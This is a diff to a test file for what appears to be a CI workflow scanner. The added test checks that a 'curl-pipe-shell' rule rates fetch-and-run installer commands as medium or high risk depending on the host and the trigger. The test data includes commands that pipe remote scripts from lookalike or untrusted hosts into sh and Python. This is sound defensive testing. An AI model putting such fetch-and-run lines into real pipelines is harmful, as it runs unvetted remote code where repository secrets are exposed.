@@ -117,6 +117,26 @@ jobs:
     expect(findings(workflow('curl -fsSL https://sh.rustup.rs.example.net/init | sh'))).toEqual([['curl-pipe-shell', 'high', 8]]);
   });
 
+  it("reads a vendor's installer piped into Python, with its guide's variables, or attached to its own GitHub release as medium; on a privileged trigger, high", () => {
+    const workflow = (run: string, on = 'push') => `on: ${on}\npermissions:\n  contents: read\njobs:\n  e2e:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ${run}\n`;
+    expect(findings(workflow('curl -sSL https://install.python-poetry.org | python3 -'))).toEqual([['curl-pipe-shell', 'medium', 8]]);
+    // Poetry's guide sets its home before the interpreter: still piped into Python (it was read as nothing).
+    expect(findings(workflow('curl -sSL https://install.python-poetry.org | POETRY_HOME=/opt/poetry python3 -'))).toEqual([['curl-pipe-shell', 'medium', 8]]);
+    expect(findings(workflow('curl -sSL https://get.toolz-cdn.dev/install.py | POETRY_HOME=/opt/poetry python3 -'))).toEqual([['curl-pipe-shell', 'high', 8]]);
+    // Poetry's Windows guide: the content piped into `py -`.
+    expect(findings(workflow('"(Invoke-WebRequest -Uri https://install.python-poetry.org -UseBasicParsing).Content | py -"'))).toEqual([['curl-pipe-shell', 'medium', 8]]);
+    expect(findings(workflow('"(Invoke-WebRequest -Uri https://get.toolz-cdn.dev/p.py -UseBasicParsing).Content | python -"'))).toEqual([['curl-pipe-shell', 'high', 8]]);
+    // uv's release notes give its installer as a release asset of astral-sh/uv; another account's release is anyone's.
+    expect(findings(workflow('curl -LsSf https://github.com/astral-sh/uv/releases/latest/download/uv-installer.sh | sh'))).toEqual([['curl-pipe-shell', 'medium', 8]]);
+    expect(findings(workflow('curl -LsSf https://github.com/astral-sh-tools/uv/releases/latest/download/uv-installer.sh | sh'))).toEqual([['curl-pipe-shell', 'high', 8]]);
+    // A privileged trigger: the job holds the repository's secrets and a token that can write.
+    const privileged = findings(workflow('curl -sSL https://install.python-poetry.org | python3 -', 'pull_request_target')).filter((f) => f[0] === 'curl-pipe-shell');
+    expect(privileged).toEqual([['curl-pipe-shell', 'high', 8]]);
+    expect(findings(workflow('curl -LsSf https://astral.sh/uv/install.sh | sh', 'workflow_run')).filter((f) => f[0] === 'curl-pipe-shell')).toEqual([['curl-pipe-shell', 'high', 8]]);
+    // Piped into a JSON reader, nothing runs.
+    expect(findings(workflow('curl -sSL https://api.github.com/repos/acme/x | python3 -m json.tool'))).toEqual([]);
+  });
+
   it('reads composite actions and their Docker images', () => {
     const composite = `name: setup
 runs:
